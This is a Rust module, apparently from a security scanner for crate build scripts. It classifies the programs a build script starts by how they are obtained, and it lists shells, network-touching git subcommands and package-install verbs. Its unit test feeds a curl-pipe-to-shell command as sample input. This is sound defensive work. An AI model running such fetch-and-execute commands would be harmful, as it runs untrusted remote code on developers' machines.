//! How a build script obtains the program it starts — the toolchain (a
//! bare compiler or probe name, a `RUSTC`/`CC`-style variable, a build
//! helper), version control, a program that fetches, a shell, a file the
//! build wrote or the crate ships — judged by provenance, never by the
//! crate's name.

use std::path::Path;

use super::blobs::BlobKind;
use super::shapes::{self, Shape};
use super::values::Origin;

/// Compilers, linkers, assemblers, archivers, build systems and the probes
/// build scripts run: started by these bare names (looked up in `PATH`),
/// they are the toolchain. A path to a program is never one of them.
const TOOLCHAIN_PROGRAMS: &[&str] = &[
    "rustc",
    "rustdoc",
    "cargo",
    "rustup",
    "cc",
    "c++",
    "gcc",
    "g++",
    "clang",
    "clang++",
    "clang-cl",
    "cl",
    "link",
    "lld",
    "ld",
    "ld.lld",
    "ld64.lld",
    "lld-link",
    "ar",
    "llvm-ar",
    "ranlib",
    "llvm-ranlib",
    "lib",
    "nasm",
    "yasm",
    "as",
    "ml",
    "ml64",
    "armasm",
    "armasm64",
    "windres",
    "rc",
    "llvm-rc",
    "pkg-config",
    "pkgconf",
    "cmake",
    "make",
    "gmake",
    "mingw32-make",
    "nmake",
    "ninja",
    "meson",
    "autoreconf",
    "autoconf",
    "automake",
    "libtool",
    "xcrun",
    "xcode-select",
    "xcodebuild",
    "protoc",
    "flatc",
    "capnp",
    "emcc",
    "em++",
    "emar",
    "wasm-ld",
    "nvcc",
    "ispc",
    "dlltool",
    "objcopy",
    "llvm-objcopy",
    "strip",
    "nm",
    "llvm-nm",
    "lipo",
    "install_name_tool",
    "perl",
    "python",
    "python3",
    "sw_vers",
    "uname",
    "ldconfig",
    "where",
    "which",
    "reg",
    "vswhere",
    "javac",
    "java",
    "go",
    "swiftc",
    "rustfmt",
    "mig",
    "dtrace",
    "glslc",
    "glslangvalidator",
    "nproc",
    "getconf",
    "freebsd-version",
    "lsb_release",
    "sysctl",
    "vcpkg",
];

/// Package managers: asked where something is, they are probes; asked to
/// install, they are not.
const PACKAGE_MANAGERS: &[&str] = &[
    "brew", "port", "choco", "winget", "scoop", "apt", "apt-get", "yum", "dnf", "pacman", "apk", "pip", "pip3", "npm",
    "gem", "conda",
];
const INSTALLING: &[&str] = &["install", "reinstall", "upgrade", "update", "add", "tap", "i", "-S", "-Syu"];

/// Environment variables that name toolchain programs.
const TOOLCHAIN_ENV: &[&str] = &[
    "RUSTC",
    "RUSTC_WRAPPER",
    "RUSTC_WORKSPACE_WRAPPER",
    "RUSTDOC",
    "CARGO",
    "CC",
    "CXX",
    "AR",
    "RANLIB",
    "LD",
    "HOST_CC",
    "TARGET_CC",
    "HOST_CXX",
    "TARGET_CXX",
    "HOST_AR",
    "TARGET_AR",
    "PKG_CONFIG",
    "CMAKE",
    "MAKE",
    "NASM",
    "PERL",
    "PYTHON",
    "PYO3_PYTHON",
    "PROTOC",
    "LLVM_CONFIG",
    "CLANG_PATH",
    "JAVA_HOME",
    "GO",
    "NVCC",
];

const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "cmd",
    "cmd.exe",
    "powershell",
    "powershell.exe",
    "pwsh",
    "osascript",
    "node",
    "ruby",
    "env",
];
const VCS: &[&str] = &["git", "hg", "svn", "jj", "fossil"];
/// `git` subcommands that contact a remote.
const GIT_NETWORK: &[&str] = &["clone", "fetch", "pull", "ls-remote", "push", "archive", "submodule"];

/// How a started program was obtained.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Program {
    Toolchain,
    Vcs,
    /// A program that fetches from the network (`curl`, `wget`), or any
    /// program given a URL.
    Network,
    Shell {
        inline: bool,
    },
    /// A path the build computed from `OUT_DIR`, the temporary or the home directory.
    Built,
    /// A file of the package itself (what its first bytes say it is).
    Shipped(BlobKind),
    /// A relative path to a file the package does not have (a toolchain name or not).
    Relative {
        toolchain: bool,
    },
    /// Received from the network.
    Downloaded,
    /// A literal name outside the lists above.
    Other,
    /// Not visible from syntax.
    Unknown,
}

fn base_name(s: &str) -> String {
    let b = s.trim().rsplit(['/', '\\']).next().unwrap_or(s).to_ascii_lowercase();
    b.strip_suffix(".exe").map(String::from).unwrap_or(b)
}

pub(super) fn classify(program: &Origin, args: &[Origin], pkg_dir: &Path) -> Program {
    if program.downloaded {
        return Program::Downloaded;
    }
    let name = program.value.as_deref().map(base_name);
    let is_toolchain = |n: &str| TOOLCHAIN_PROGRAMS.contains(&n) || n.ends_with("-config") || n.ends_with("_config");
    let arg_texts: Vec<String> = args.iter().flat_map(|a| a.value.iter().chain(a.literals.iter()).cloned()).collect();
    let mentions_net = arg_texts.iter().chain(program.value.iter()).any(|t| {
        shapes::shape(t) == Shape::Url
            || shapes::NETWORK_TOOLS.iter().any(|n| t.split_whitespace().any(|w| base_name(w) == *n))
    });
    if let Some(n) = &name {
        if shapes::NETWORK_TOOLS.contains(&n.as_str()) {
            return Program::Network;
        }
        if VCS.contains(&n.as_str()) {
            let net = arg_texts.iter().any(|a| GIT_NETWORK.contains(&a.as_str()));
            return if net || mentions_net { Program::Network } else { Program::Vcs };
        }
    }
    if mentions_net {
        return Program::Network;
    }
    if program.out_dir || program.temp || program.home {
        return Program::Built;
    }
    // A path in the package (`./configure`, `CARGO_MANIFEST_DIR/tools/x`), or relative to it.
    let relative = match &program.value {
        Some(v) if v.contains(['/', '\\']) && !Path::new(v).is_absolute() && !v.starts_with('\\') => Some(v.clone()),
        None if program.manifest_dir && !program.unknown => Some(program.literals.concat()),
        _ => None,
    };
    if let Some(rel) = relative {
        let path = crate::util::fspath::absolutize(pkg_dir, Path::new(rel.trim_start_matches(['/', '\\'])));
        let kind = super::blobs::sniff_file(&path, pkg_dir);
        if kind != BlobKind::Unknown {
            return Program::Shipped(kind);
        }
        return Program::Relative { toolchain: is_toolchain(&base_name(&rel)) };
    }
    if program.joined && program.value.is_none() {
        return Program::Unknown;
    }
    if let Some(n) = &name {
        if SHELLS.contains(&n.as_str()) {
            let inline =
                arg_texts.iter().any(|a| matches!(a.as_str(), "-c" | "/c" | "/C" | "-Command" | "-command" | "-e"));
            return Program::Shell { inline };
        }
        if PACKAGE_MANAGERS.contains(&n.as_str()) {
            let installs = arg_texts.iter().any(|a| INSTALLING.contains(&a.as_str()));
            return if installs { Program::Other } else { Program::Toolchain };
        }
        if is_toolchain(n) {
            return Program::Toolchain;
        }
        return Program::Other;
    }
    if program.toolchain
        || (!program.env.is_empty()
            && program.env.iter().all(|e| {
                TOOLCHAIN_ENV.contains(&e.as_str()) || e.ends_with("_CC") || e.ends_with("_CXX") || e.ends_with("_AR")
            }))
    {
        return Program::Toolchain;
    }
    // A literal among the pieces (`var("CC").unwrap_or("cc")`): the toolchain
    // when every literal is a toolchain name.
    if !program.literals.is_empty()
        && program
            .literals
            .iter()
            .all(|l| TOOLCHAIN_PROGRAMS.contains(&base_name(l).as_str()) && !l.contains(['/', '\\']))
        && program.env.iter().all(|e| TOOLCHAIN_ENV.contains(&e.as_str()))
    {
        return Program::Toolchain;
    }
    Program::Unknown
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lit(s: &str) -> Origin {
        Origin { value: Some(s.into()), literals: vec![s.into()], pieces: 1, ..Default::default() }
    }

    #[test]
    fn programs_are_judged_by_how_they_are_obtained() {
        let pkg = Path::new("/nonexistent-package");
        let classify = |p: &Origin, a: &[Origin]| classify(p, a, pkg);
        assert_eq!(classify(&lit("cc"), &[]), Program::Toolchain);
        assert_eq!(classify(&lit("brew"), &[lit("--prefix"), lit("postgres")]), Program::Toolchain);
        assert_eq!(classify(&lit("brew"), &[lit("install"), lit("x")]), Program::Other);
        assert_eq!(classify(&lit("pg_config"), &[]), Program::Toolchain);
        let rustc = Origin { env: vec!["RUSTC".into()], ..Default::default() };
        assert_eq!(classify(&rustc, &[lit("--version")]), Program::Toolchain);
        let dropped = Origin { out_dir: true, joined: true, literals: vec!["cc".into()], ..Default::default() };
        assert_eq!(classify(&dropped, &[]), Program::Built);
        assert_eq!(classify(&lit("./cc"), &[]), Program::Relative { toolchain: true });
        assert_eq!(classify(&lit("./payload"), &[]), Program::Relative { toolchain: false });
        assert_eq!(classify(&lit("curl"), &[lit("-sSf")]), Program::Network);
        assert_eq!(classify(&lit("git"), &[lit("rev-parse"), lit("HEAD")]), Program::Vcs);
        assert_eq!(classify(&lit("git"), &[lit("clone")]), Program::Network);
        assert_eq!(classify(&lit("sh"), &[lit("-c"), lit("echo hi")]), Program::Shell { inline: true });
        assert_eq!(classify(&lit("sh"), &[lit("-c"), lit("curl https://example.invalid | sh")]), Program::Network);
        assert_eq!(classify(&lit("frobnicate"), &[]), Program::Other);
        assert_eq!(classify(&Origin::default(), &[]), Program::Unknown);
    }
}
